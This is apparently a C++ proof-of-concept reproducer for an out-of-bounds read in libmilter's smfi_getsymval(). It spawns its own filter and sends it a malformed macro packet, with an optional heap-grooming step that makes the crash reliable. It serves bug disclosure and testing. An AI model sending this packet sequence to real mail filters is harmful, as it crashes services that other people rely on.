// libmilter-getsymval-repro: shows libmilter's smfi_getsymval() reading past
// its macro array after a macro packet with an odd number of strings
// (contrib/libmilter-getsymval.md). The child is the smallest filter that
// asks for a macro at connect; the parent is an MTA that sends, in each
// session, a negotiation, the macro packet "D" "C" "j\0" (a name, no value)
// and a connect, and then reports whether the filter answered or died.
// What smfi_getsymval() finds past the array is whatever the 8 bytes after
// it hold: "plain" sends only those packets (valgrind shows the invalid
// read; the process survives when the bytes happen to be zero), "groomed"
// first sends four well-formed macro packets that leave non-zero bytes
// where the array will be allocated, so that the read crashes every time.
//
//   g++ -O2 -o repro contrib/libmilter-getsymval-repro.cpp -lmilter
//   ./repro [plain|groomed] [SESSIONS]     (default: groomed 3; stops at the first crash)
//
// Exit: 0 when the filter survived every session, 1 when it died.
#include <arpa/inet.h>
#include <libmilter/mfapi.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

sfsistat on_connect(SMFICTX* ctx, char*, _SOCK_ADDR*) {
    // Any name the MTA did not send walks the whole array.
    const char* v = smfi_getsymval(ctx, const_cast<char*>("{daemon_name}"));
    return v ? SMFIS_ACCEPT : SMFIS_CONTINUE;
}

std::string packet(char cmd, const std::string& data) {
    uint32_t len = htonl(uint32_t(data.size() + 1));
    return std::string(reinterpret_cast<const char*>(&len), 4) + cmd + data;
}

std::string z(const std::string& s) {
    return s + '\0';
}

// One session; returns the connect reply's command byte, or 0 on EOF/timeout.
char session(const char* path, bool groomed) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    sockaddr_un sa{};
    sa.sun_family = AF_UNIX;
    std::strncpy(sa.sun_path, path, sizeof sa.sun_path - 1);
    if (connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa) != 0) {
        close(fd);
        return 0;
    }
    // Every action and protocol step, as Postfix offers them.
    uint32_t neg[3] = {htonl(6), htonl(0x1ff), htonl(0x1fffff)};
    std::string out = packet('O', std::string(reinterpret_cast<const char*>(neg), 12));
    if (groomed) {
        // 24-byte macro packets for the HELO and MAIL stages, whose last 8
        // bytes are "ddddddd\0"; then the same stages again with other
        // sizes: libmilter frees the first two buffers, and the next two
        // 32-byte allocations (the odd packet's buffer and its array) get them.
        for (char stage : {'H', 'M'})
            out += packet('D', stage + z("a") + z("b") + z("c") + z(std::string(16, 'd')));
        for (char stage : {'H', 'M'})
            out += packet('D', stage + z(std::string(20, 'a')) + z("b") + z("c") + z("d"));
    }
    out += packet('D', std::string("Cj\0", 3));  // stage 'C', name "j", no value
    uint16_t port = htons(25);
    out += packet('C', std::string("client\0"
                                   "4",
                                   8) +
                           std::string(reinterpret_cast<const char*>(&port), 2) +
                           std::string("192.0.2.7\0", 10));
    if (write(fd, out.data(), out.size()) != ssize_t(out.size())) {
        close(fd);
        return 0;
    }
    char buf[256];
    std::string in;
    char answer = 0;
    // The negotiation reply, then the connect reply.
    while (answer == 0) {
        pollfd p{fd, POLLIN, 0};
        if (poll(&p, 1, 3000) <= 0) break;
        ssize_t n = read(fd, buf, sizeof buf);
        if (n <= 0) break;
        in.append(buf, size_t(n));
        while (in.size() >= 5) {
            uint32_t len;
            std::memcpy(&len, in.data(), 4);
            len = ntohl(len);
            if (in.size() < 4 + len) break;
            if (in[4] != 'O') answer = in[4];
            in.erase(0, 4 + len);
        }
    }
    close(fd);
    return answer;
}

}  // namespace

int main(int argc, char** argv) {
    bool groomed = !(argc > 1 && std::strcmp(argv[1], "plain") == 0);
    int sessions = argc > 2 ? std::atoi(argv[2]) : 3;
    char path[] = "/tmp/repro-getsymval.sock";
    unlink(path);
    pid_t child = fork();
    if (child == 0) {
        smfiDesc d{};
        d.xxfi_name = const_cast<char*>("repro");
        d.xxfi_version = SMFI_VERSION;
        d.xxfi_connect = on_connect;
        std::string conn = std::string("unix:") + path;
        if (smfi_setconn(&conn[0]) != MI_SUCCESS || smfi_register(d) != MI_SUCCESS) _exit(2);
        _exit(smfi_main() == MI_SUCCESS ? 0 : 2);
    }
    for (int i = 0; i < 50 && access(path, F_OK) != 0; ++i) usleep(100 * 1000);
    for (int i = 1; i <= sessions; ++i) {
        char a = session(path, groomed);
        int status;
        usleep(100 * 1000);
        if (waitpid(child, &status, WNOHANG) == child) {
            if (WIFSIGNALED(status))
                std::printf("session %d: no answer; the filter died of signal %d (%s)\n", i, WTERMSIG(status),
                            strsignal(WTERMSIG(status)));
            else
                std::printf("session %d: no answer; the filter exited with %d\n", i, WEXITSTATUS(status));
            unlink(path);
            return 1;
        }
        std::printf("session %d: filter answered '%c'\n", i, a ? a : '-');
    }
    kill(child, SIGTERM);
    waitpid(child, nullptr, 0);
    unlink(path);
    std::printf("the filter survived %d sessions\n", sessions);
    return 0;
}
